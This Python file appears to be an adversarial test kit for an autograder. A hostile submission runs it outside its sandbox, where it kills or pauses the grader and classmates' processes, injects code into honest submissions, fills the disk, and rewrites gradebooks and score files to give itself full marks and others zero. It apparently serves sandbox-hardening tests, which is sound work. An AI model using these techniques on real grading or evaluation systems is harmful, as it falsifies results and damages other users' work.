"""The escape kit: what a hostile submission runs outside its grading child, to reach the class.

``attack_corpus.py`` copies this file into a submission as ``_kit.py``; the submission's
``__init__.py`` calls :func:`launch` (a process in a new session, double-forked, that outlives
the child's process group and its parent-death signal), which runs ``python _kit.py ACTION ...``.
It is self-contained (no import of the project): inside a sandbox it must run with what it finds.

Safety, on a machine shared with other work: every action is confined to what it can prove is
its own grading run. ``ROOT`` is the grader's temporary folder (``transformer-spec-grade-*``),
taken from the child's own working folder, never searched for; files are touched only under the
folder that holds ``ROOT`` (the system's temp folder), and processes are signalled only when
their command line names ``ROOT`` (classmates' children) or when they are this child's own
parent, the grader, with ``tools.grade``/``pytest`` in its command line and a temp-folder path in
its command line or working folder. Every action stops after ``LIFETIME`` seconds or when
``ROOT`` is gone, and writes at most ``DISK_CAP`` bytes.
"""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import time

PREFIX = "transformer-spec-grade-"
VICTIM = "honest"  # classmates attacked: the test's honest students (sandboxes named honest*)
LIFETIME = 200.0
DISK_CAP = 200 * 2**20
MARK = "ts-hostile"


def grader_root(path: str) -> str | None:
    """The grader's temp root among the ancestors of ``path`` (None: not in a grader's sandbox)."""
    parts = os.path.realpath(path).split(os.sep)
    for i, part in enumerate(parts):
        if part.startswith(PREFIX):
            return os.sep.join(parts[:i + 1])
    return None


def under(path: str, base: str) -> bool:
    real = os.path.realpath(path)
    return real.startswith(base.rstrip(os.sep) + os.sep)


def read(path: str, limit: int = 1 << 16) -> bytes:
    try:
        with open(path, "rb") as f:
            return f.read(limit)
    except OSError:
        return b""


def argv_of(pid: int) -> list[str]:
    return [a.decode(errors="replace") for a in read(f"/proc/{pid}/cmdline").split(b"\0") if a]


def cwd_of(pid: int) -> str:
    try:
        return os.readlink(f"/proc/{pid}/cwd")
    except OSError:
        return ""


def processes_under(root: str) -> list[tuple[int, list[str]]]:
    """Processes whose command line names ``root`` (the grading children of this run)."""
    found = []
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            argv = argv_of(int(name))
            if any(root + os.sep in a for a in argv):
                found.append((int(name), argv))
    return found


def victims(root: str) -> list[tuple[int, list[str]]]:
    """The honest classmates' grading children (pytest or the re-check) of this run."""
    mark = root + os.sep + VICTIM
    return [(pid, argv) for pid, argv in processes_under(root)
            if any(mark in a for a in argv) and any("pytest" in a or "transformer_spec" in a for a in argv)]


def victim_sandboxes(root: str) -> list[str]:
    try:
        return sorted(os.path.join(root, d) for d in os.listdir(root) if d.startswith(VICTIM))
    except OSError:
        return []


def grader_of(pid: int, safe: str) -> int | None:
    """``pid`` if it is this run's grader: tools.grade or pytest, started in or naming the temp folder."""
    argv = argv_of(pid)
    text = " ".join(argv)
    if not any(m in text for m in ("tools.grade", "transformer_spec", "pytest")):
        return None
    if under(cwd_of(pid), safe) or any(under(a, safe) for a in argv if a.startswith(os.sep)):
        return pid
    return None


def grader_option(pid: int, option: str) -> str | None:
    """The value of ``option`` (e.g. ``--out``) on the grader's command line, as an absolute path."""
    argv = argv_of(pid)
    if option not in argv or argv.index(option) + 1 >= len(argv):
        return None
    return os.path.join(cwd_of(pid), argv[argv.index(option) + 1])


def grader_class_folder(pid: int) -> str | None:
    """The class folder: the first positional argument after ``tools.grade``."""
    argv = argv_of(pid)
    if "tools.grade" not in argv:
        return None
    rest = argv[argv.index("tools.grade") + 1:]
    skip = False
    for a in rest:
        if skip:
            skip = False
        elif a.startswith("-"):
            skip = a in ("--out", "--tests", "--jobs", "--time-limit", "--test-timeout", "--wall", "--memory-mb",
                         "--max-output-mb", "--shard", "--rubric")
        elif a != "single":
            return os.path.join(cwd_of(pid), a)
    return None


def alive(path_or_pid) -> bool:
    if isinstance(path_or_pid, int):
        return os.path.exists(f"/proc/{path_or_pid}")
    return os.path.exists(path_or_pid)


def until_root_gone(root: str, step: float = 0.3):
    """Yield every ``step`` seconds while ``root`` exists (at most ``LIFETIME`` seconds)."""
    end = time.monotonic() + LIFETIME
    while time.monotonic() < end and alive(root):
        yield
        time.sleep(step)


# --------------------------------------------------------------------------------------------
# Actions (python _kit.py ACTION ROOT GRADER STUDENT)
# --------------------------------------------------------------------------------------------
def pipe_junk(root, grader, student):
    """Write junk into every pipe the honest classmates' children hold open (their report pipes)."""
    done = set()
    for _ in until_root_gone(root, 0.1):
        for pid, _argv in victims(root):
            try:
                fds = os.listdir(f"/proc/{pid}/fd")
            except OSError:
                continue
            for fd in fds:
                if int(fd) <= 2 or (pid, fd) in done:
                    continue
                try:
                    if not os.readlink(f"/proc/{pid}/fd/{fd}").startswith("pipe:"):
                        continue
                    w = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
                    try:
                        os.write(w, b"JUNK" * 64)
                    finally:
                        os.close(w)
                except OSError:
                    pass
                done.add((pid, fd))


#: appended to classmates' copies: changes only what the hidden re-check's process computes
RECHECK_ONLY = '''
import sys as _ts_sys
if any("recheck" in _a for _a in _ts_sys.argv):
    _ts_orig = scaled_dot_product_attention
    def scaled_dot_product_attention(*a, **k):
        out, w = _ts_orig(*a, **k)
        return out + 1e-3, w
'''


def _module_files(sub: str) -> list[str]:
    """The file a submission's copy is imported from: ``sub/PKG/__init__.py``, ``sub/NAME.py`` or
    ``sub/FOLDER/NAME.py`` (a folder holding one module)."""
    found = []
    for entry in sorted(os.listdir(sub)) if os.path.isdir(sub) else []:
        p = os.path.join(sub, entry)
        if entry.endswith(".py"):
            found.append(p)
        elif os.path.isfile(os.path.join(p, "__init__.py")):
            found.append(os.path.join(p, "__init__.py"))
        elif os.path.isdir(p):
            found += [os.path.join(p, f) for f in sorted(os.listdir(p)) if f.endswith(".py")]
    return found


def append_code(root, grader, student):
    """Append RECHECK_ONLY to the honest classmates' sandbox copies (once each)."""
    done = set()
    for _ in until_root_gone(root, 0.1):
        for box in victim_sandboxes(root):
            try:
                files = _module_files(os.path.join(box, "sub"))
            except OSError:
                continue
            for p in files:
                if p in done or not under(p, root):
                    continue
                if b"scaled_dot_product_attention" in read(p, 1 << 22):
                    try:
                        with open(p, "a") as fh:
                            fh.write(RECHECK_ONLY)
                    except OSError:
                        pass
                done.add(p)


def kill_classmates(root, grader, student):
    for _ in until_root_gone(root, 0.1):
        for pid, _argv in victims(root):
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass


def stop_grader(root, grader, student):
    """Once an honest classmate is being graded, pause the grader for 30 s (a Ctrl-Z, a loaded machine)."""
    for _ in until_root_gone(root, 0.2):
        if victims(root) and grader_of(grader, os.path.dirname(root)):
            os.kill(grader, signal.SIGSTOP)
            time.sleep(30)
            os.kill(grader, signal.SIGCONT)
            return


def kill_grader(root, grader, student):
    time.sleep(1.0)
    if grader_of(grader, os.path.dirname(root)):
        os.kill(grader, signal.SIGKILL)


def many_procs(root, grader, student):
    for _ in range(50):
        subprocess.Popen(["sleep", "150"], start_new_session=True, stdin=subprocess.DEVNULL,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def disk_fill(root, grader, student):
    """DISK_CAP bytes outside every sandbox, beside the grader's temp root."""
    path = os.path.join(os.path.dirname(root), f"{MARK}-{os.path.basename(root)}.bin")
    chunk = b"\0" * 2**20
    with open(path, "wb") as f:
        for _ in range(DISK_CAP // len(chunk)):
            f.write(chunk)
    for _ in until_root_gone(root, 0.5):
        pass  # stay alive with the file while the batch runs


def _zero_in_place(path: str, safe: str) -> None:
    """Zero the total/score of a JSON record in place, with its size and times restored."""
    if not under(path, safe):
        return
    try:
        st = os.stat(path)
        data = bytearray(read(path, 1 << 24))
        for key in (b'"total": ', b'"score": '):
            i = data.find(key)
            if i >= 0:
                j = i + len(key)
                k = j
                while k < len(data) and data[k:k + 1] in b"0123456789.":
                    k += 1
                if k > j:
                    data[j:k] = b"0" + b" " * (k - j - 1)
        with open(path, "r+b") as f:
            f.write(data)
        os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))
    except OSError:
        pass


def edit_results_in_place(root, grader, student):
    """While the batch runs, zero the honest students' records as soon as they are written."""
    safe = os.path.dirname(root)
    out = grader_option(grader, "--out") if grader_of(grader, safe) else None
    if not out or not under(out, safe):
        return
    done = set()
    for _ in until_root_gone(root, 0.2):
        try:
            names = [n for n in os.listdir(os.path.join(out, "students")) if n.startswith(VICTIM)]
        except OSError:
            continue
        for n in names:
            for f in ("record.json", "results.json"):
                p = os.path.join(out, "students", n, f)
                if p not in done and os.path.isfile(p):
                    time.sleep(0.5)
                    _zero_in_place(p, safe)
                    done.add(p)


def rewrite_outputs(root, grader, student):
    """After the grader is done, give myself full marks and the honest students 0 (gradebook,
    records, results.json, and Gradescope's --results-json file)."""
    safe = os.path.dirname(root)
    if not grader_of(grader, safe):
        return
    out = grader_option(grader, "--out")
    results = grader_option(grader, "--results-json")
    end = time.monotonic() + LIFETIME
    while time.monotonic() < end and alive(root) and alive(grader):
        time.sleep(0.3)
    time.sleep(2.0)
    import json
    targets = []
    if results and under(results, safe):
        targets.append((results, True))
    if out and under(out, safe):
        for dirpath, _dirs, files in os.walk(out):
            for f in files:
                if f in ("record.json", "results.json"):
                    targets.append((os.path.join(dirpath, f), os.path.basename(dirpath) == student))
        book = os.path.join(out, "gradebook.csv")
        if os.path.isfile(book):
            lines = read(book, 1 << 24).decode().splitlines()
            for i, line in enumerate(lines[1:], 1):
                cells = line.split(",")
                if cells[0] == student:
                    cells[1], cells[2] = "ok", cells[3]
                elif cells[0].startswith(VICTIM):
                    cells[1], cells[2] = "tampering", "0"
                lines[i] = ",".join(cells)
            with open(book, "w") as f:
                f.write("\n".join(lines) + "\n")
    for path, mine in targets:
        try:
            data = json.loads(read(path, 1 << 24))
            if "score" in data:
                data["score"] = 54.0 if mine else 0.0
                for t in data.get("tests", []):
                    t["score"] = t["max_score"] if mine else 0.0
            if "total" in data:
                data["total"] = data.get("possible", 54.0) if mine else 0.0
                data["status"] = "ok" if mine else "tampering"
            if mine or os.path.basename(os.path.dirname(path)).startswith(VICTIM):
                with open(path, "w") as f:
                    json.dump(data, f)
        except (OSError, ValueError, KeyError, TypeError):
            pass


def rewrite_class(root, grader, student):
    """Break the honest classmates' files in the instructor's class folder, and plant a student."""
    safe = os.path.dirname(root)
    folder = grader_class_folder(grader) if grader_of(grader, safe) else None
    if not folder or not under(folder, safe) or not os.path.isdir(folder):
        return
    for name in sorted(os.listdir(folder)):
        if name.startswith(VICTIM):
            for dirpath, _dirs, files in os.walk(os.path.join(folder, name)):
                for f in files:
                    if f.endswith(".py") and under(os.path.join(dirpath, f), safe):
                        with open(os.path.join(dirpath, f), "a") as fh:
                            fh.write(f"\nraise ImportError('{MARK}: rewritten by {student}')\n")
    with open(os.path.join(folder, f"{MARK}_planted.py"), "w") as fh:
        fh.write("# planted\n")


ACTIONS = {f.__name__: f for f in (pipe_junk, append_code, kill_classmates, stop_grader, kill_grader, many_procs,
                                    disk_fill, edit_results_in_place, rewrite_outputs, rewrite_class)}


# --------------------------------------------------------------------------------------------
# Called from a submission
# --------------------------------------------------------------------------------------------
def launch(action: str, student: str) -> None:
    """Start ``action`` in a process that outlives this child (once per grading run)."""
    try:
        root = grader_root(os.getcwd())
        if root is None:
            return
        lock = os.path.join(root, f".{MARK}-{student}-{action}")
        try:
            os.close(os.open(lock, os.O_CREAT | os.O_EXCL | os.O_WRONLY))
        except OSError:
            return  # already launched (the re-check's process imports the submission too)
        grader = os.getppid()
        # Double fork: the intermediate process exits, so the action is nobody's child here.
        subprocess.Popen([sys.executable, "-c",
                          "import subprocess, sys; subprocess.Popen(sys.argv[1:], start_new_session=True, "
                          "stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)",
                          sys.executable, os.path.abspath(__file__), action, root, str(grader), student],
                         start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL).wait()
    except Exception:  # noqa: BLE001 - an attack that cannot run must not change the grade
        pass


if __name__ == "__main__":
    _action, _root, _grader, _student = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
    if grader_root(_root) == _root:
        try:
            ACTIONS[_action](_root, _grader, _student)
        except Exception:  # noqa: BLE001
            pass
